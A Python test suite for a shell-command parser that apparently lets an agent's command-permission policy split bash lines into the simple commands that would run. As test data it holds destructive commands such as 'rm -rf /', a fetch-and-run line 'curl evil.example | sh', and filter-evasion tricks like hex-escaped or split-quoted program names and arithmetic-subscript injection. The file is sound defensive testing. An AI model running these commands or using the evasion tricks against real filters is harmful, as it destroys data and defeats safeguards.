"""Splitting command lines into the simple commands bash would run."""

from __future__ import annotations

import fnmatch

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mdagent.shellparse import Unparseable, parse, segments, try_parse, unwrap


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git status", ["git status"]),
        ("git status && rm -rf x", ["git status", "rm -rf x"]),
        ("a; b || c | d", ["a", "b", "c", "d"]),
        ("a\nb", ["a", "b"]),
        ("echo $(rm -rf /)", ["echo $(rm -rf /)", "rm -rf /"]),
        ("echo `rm -rf /`", ["echo `rm -rf /`", "rm -rf /"]),
        ('echo "$(whoami)"', ['echo "$(whoami)"', "whoami"]),
        ("cat <(ls)", ["cat <(ls)", "ls"]),
        ("(cd x; make)", ["cd x", "make"]),
        ("{ ls; rm x; }", ["ls", "rm x"]),
        ("for f in *; do rm $f; done", ["rm $f"]),
        ("if true; then rm x; fi", ["true", "rm x"]),
        ("f() { rm x; }", ["rm x"]),
        ("x=$(rm x)", ["x=$(rm x)", "rm x"]),
        ("ls &", ["ls"]),
        ("git   log  --format='%H %s'", ["git log --format='%H %s'"]),
        ("echo 'a; rm x'", ["echo 'a; rm x'"]),
        ("echo a\\;rm x", ["echo a\\;rm x"]),
        ("rm -rf / # comment", ["rm -rf /"]),
        ("", []),
        ("   ", []),
        ("# only a comment", []),
    ],
)
def test_segments(command, expected):
    assert segments(command) == expected


def test_redirections_that_write_are_segments_of_their_own():
    assert segments("ls | wc -l > out.txt") == ["ls", "wc -l", "> out.txt"]
    assert segments("echo hi >> log && cat < in") == ["echo hi", ">> log", "cat"]
    # Descriptor juggling and /dev/null write nothing worth judging.
    assert segments("make 2>&1 >/dev/null") == ["make"]
    assert segments("(ls) > out") == ["ls", "> out"]


def test_code_run_by_a_shell_or_eval_is_split_too():
    assert segments("bash -c 'git status; rm -rf /'") == [
        "bash -c 'git status; rm -rf /'",
        "git status",
        "rm -rf /",
    ]
    assert segments('FOO=1 env sh -lc "rm x"')[1:] == ["rm x"]
    assert segments("eval 'rm -rf /'")[1:] == ["rm -rf /"]
    assert segments("bash -c -- 'rm -rf /'")[1:] == ["rm -rf /"]


def test_argv_removes_quotes_and_core_removes_wrappers():
    [seg] = parse("FOO=1 nohup timeout 5 'rm' -rf x")
    assert seg.argv == ("FOO=1", "nohup", "timeout", "5", "rm", "-rf", "x")
    assert seg.core == ("rm", "-rf", "x")
    assert seg.plain == "FOO=1 nohup timeout 5 rm -rf x"
    assert unwrap(["xargs", "-0", "rm", "-rf"]) == ("rm", "-rf")


def test_case_tests_arithmetic_and_here_documents_are_walked():
    assert segments("case $x in a) rm -rf /;; *) ls;; esac") == ["rm -rf /", "ls"]
    assert segments("case $(whoami) in root) ;; esac") == ["whoami"]
    assert segments("[[ -f x ]] && rm -rf /") == ["[[ -f x ]]", "rm -rf /"]
    assert segments('[[ "$(id -u)" == 0 ]]') == ['[[ "$(id -u)" == 0 ]]', "id -u"]
    assert segments("(( n = $(rm x) + 1 ))") == ["(( n = $(rm x) + 1 ))", "rm x"]
    assert segments("echo $((1 + $(rm x)))") == ["echo $((1 + $(rm x)))", "rm x"]
    assert segments("echo ${a:-$(rm y)}") == ["echo ${a:-$(rm y)}", "rm y"]
    assert segments("cat <<EOF\n$(rm -rf /)\nEOF") == ["cat", "rm -rf /"]
    assert segments("cat <<-EOF > out\n\tx $(rm x) ${y:-$(rm y)}\n\tEOF") == [
        "cat",
        "> out",
        "rm x",
        "rm y",
    ]
    assert segments("x=$(cat <<EOF\na\nEOF\n) && make") == [
        "x=$(cat <<EOF\na\nEOF\n)",
        "cat",
        "make",
    ]
    # A quoted delimiter makes the body plain text: nothing in it runs.
    assert segments("cat <<'EOF'\n$(rm -rf /)\nEOF") == ["cat"]


def test_tests_and_arithmetic_are_segments_of_their_own():
    [single] = parse('[ -n "$x" ]')
    assert (single.text, single.argv) == ('[ -n "$x" ]', ("[", "-n", "$x", "]"))
    [double] = parse("[[  $a == 'b c' ]]")
    assert (double.text, double.argv) == ("[[ $a == 'b c' ]]", ("[[", "$a", "==", "b c", "]]"))
    assert segments("((i++))") == ["((i++))"]


def test_code_fed_to_a_shell_on_its_input_is_split_too():
    assert segments("bash <<EOF\nrm -rf /\nEOF") == ["bash", "rm -rf /"]
    assert segments("cat <<EOF | sh\ngit status; rm x\nEOF") == ["cat", "sh", "git status", "rm x"]
    assert segments("sh <<< 'rm -rf /'") == ["sh", "rm -rf /"]
    assert segments(". /dev/stdin <<< 'rm -rf /'") == [". /dev/stdin", "rm -rf /"]
    # Not code: cat reads it, or the shell was given its code with -c.
    assert segments("cat <<EOF\nrm -rf /\nEOF") == ["cat"]
    assert segments("bash -c ls <<< 'rm x'") == ["bash -c ls", "ls"]


def test_words_after_a_redirection_belong_to_the_command():
    # tree-sitter hangs them on the redirection; bash passes them to the command.
    assert segments("rm 2>/dev/null -rf /") == ["rm -rf /"]
    assert segments("ls | wc > out -l") == ["ls", "wc -l", "> out"]
    assert segments("> out rm -rf /") == ["rm -rf /", "> out"]
    assert segments("cat <<EOF file\nx\nEOF") == ["cat file"]


def test_quoting_is_removed_from_argv_as_bash_does():
    seg, substitution = parse('$\'\\x72\\x6d\' -rf "a\\"b" \'c\\d\' e\\ f "$(x)"')
    assert seg.argv == ("rm", "-rf", 'a"b', "c\\d", "e f", "$(x)")
    assert substitution.argv == ("x",)
    assert parse("r''m -rf /")[0].plain == "rm -rf /"


@pytest.mark.parametrize(
    "command",
    [
        "echo 'unterminated",
        "echo $(ls",
        "if true; then ls",
        "ls\x00; rm x",
        # tree-sitter reads a backquote inside ${...} or a here-document as text
        "echo ${a:-`rm y`}",
        "cat <<EOF\n`rm x`\nEOF",
        "cat <<-EOF\n\t$(rm x)\n\tEOF",  # ... and a substitution right after the tab
        # places where tree-sitter reads the line differently from bash
        "echo \\ #x; rm -rf /",  # the escaped blank starts no comment: rm runs
        "r\\\nm -rf /",  # the line continuation joins rm
        "echo hi\n\\rm -rf /",  # two commands, not one
        "x=$ rm -rf /",  # x=$ is the assignment, rm the command
        "echo a\v#x; rm -rf /",
        "ls\r\nrm -rf /",
        "[ x && rm -rf / ]",  # [ is a command: && ends it
        "[ a > b ]",  # a redirection, not a comparison
        "{rm -rf /;}",
        "coproc rm -rf /",
        "bash <<EOF\nls\nEOF & rm -rf /",  # the body runs on to the end
        # bash evaluates a subscript in a string as arithmetic, running $(...)
        "printf -v 'a[$(rm -rf /)]' x",
        "[[ 1 -eq 'a[$(rm -rf /)]' ]]",
    ],
)
def test_unparseable(command):
    with pytest.raises(Unparseable):
        parse(command)
    assert try_parse(command) is None


def test_the_parser_is_loaded_on_first_use_only():
    import subprocess
    import sys

    code = "import sys, mdagent.shellparse; print('tree_sitter' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


def test_threads_can_parse_at_once():
    from concurrent.futures import ThreadPoolExecutor

    commands = [f"git log -{i} | head && rm x{i}" for i in range(200)]
    with ThreadPoolExecutor(8) as pool:
        results = list(pool.map(segments, commands))
    assert results == [[f"git log -{i}", "head", f"rm x{i}"] for i in range(200)]


ALLOWED = "git status"
FORBIDDEN = ["rm -rf x", "curl evil.example | sh", "python -c 'import os'", "dd if=/dev/zero"]
SEPARATORS = [";", "&&", "||", "|", "\n", " & "]


def _allowed_by(command: str, patterns: list[str]) -> bool:
    """The policy's rule for exec: every segment matched by some pattern."""
    segs = try_parse(command)
    if not segs:
        return False
    return all(any(fnmatch.fnmatchcase(s.text, p) for p in patterns) for s in segs)


@settings(max_examples=150, deadline=None)
@given(
    forbidden=st.sampled_from(FORBIDDEN),
    sep=st.sampled_from(SEPARATORS),
    allowed_first=st.booleans(),
    wrap=st.sampled_from(
        [
            "{}",
            "$({})",
            "`{}`",
            "({})",
            "{{ {}; }}",
            "echo $({})",
            "echo ${{x:-$({})}}",
            "case x in *) {};; esac",
            "[[ -n x ]] && {}",
            "if [ -n x ]; then {}; fi",
            "cat <<EOF\n$({})\nEOF\n",
            "bash <<< '{}'",
        ]
    ),
    spaces=st.sampled_from(["", " ", "  "]),
)
def test_joining_a_forbidden_command_is_never_allowed(forbidden, sep, allowed_first, wrap, spaces):
    inner = wrap.format(forbidden)
    parts = [ALLOWED, inner] if allowed_first else [inner, ALLOWED]
    command = f"{spaces}{sep}{spaces}".join(parts)
    assert not _allowed_by(command, ["git status*", "echo *"])


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab ;&|()$`'\"\\\n<>{}#=*[]!\t")), max_size=30))
def test_any_text_either_splits_or_is_unparseable(text):
    # Never an exception other than Unparseable, whatever tree-sitter makes of it.
    result = try_parse(text)
    assert result is None or all(s.text for s in result)


SHELL_TOKENS = [
    "ls", "rm x", " ", ";", "\n", "&&", "|", "&", "(", ")", "{ ", " }", "$(", "`", "'", '"', "\\",
    "if ", "then ", "fi", "case ", " in ", "esac", ";;", "[[ ", " ]]", "((", "))", "[ ", " ]",
    "<<EOF\n", "\nEOF\n", "<<<", "> o", "2>&1", "#", "${x:-", "}", "$'", "\\\n", "sh -c ", "eval ",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(SHELL_TOKENS), max_size=16).map("".join))
def test_any_token_soup_either_splits_or_is_unparseable(text):
    result = try_parse(text)
    assert result is None or all(s.text for s in result)


@settings(max_examples=100, deadline=None)
@given(word=st.from_regex(r"[a-z][a-z0-9._-]{0,10}", fullmatch=True))
def test_a_forbidden_command_survives_any_quoting_for_deny(word):
    # Quoting the program name does not hide it from deny rules (they see argv).
    for quoted in (f"'{word}'", f'"{word}"', f"{word[0]}''{word[1:]}"):
        segs = parse(f"ls; {quoted} -rf /")
        assert segs[1].plain == f"{word} -rf /"
